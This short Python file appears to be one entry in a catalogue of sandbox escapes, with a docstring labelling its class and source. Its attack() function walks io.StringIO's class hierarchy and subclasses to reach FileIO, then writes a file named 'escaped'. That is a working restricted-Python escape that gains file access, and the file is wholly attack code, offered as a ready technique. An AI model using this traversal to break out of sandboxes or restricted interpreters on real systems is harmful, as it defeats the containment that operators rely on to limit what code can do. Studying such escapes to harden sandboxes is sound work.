"""Class: descriptors. Source: own find. Escape: a buffer's class leads to the class of files."""

import io


def attack(model, tokenizer, address):
    todo = [io.StringIO.__mro__[-2]]
    while todo:
        cls = todo.pop()
        todo += cls.__subclasses__()
        if cls.__name__ == "FileIO":
            cls("escaped", "w").close()
            return
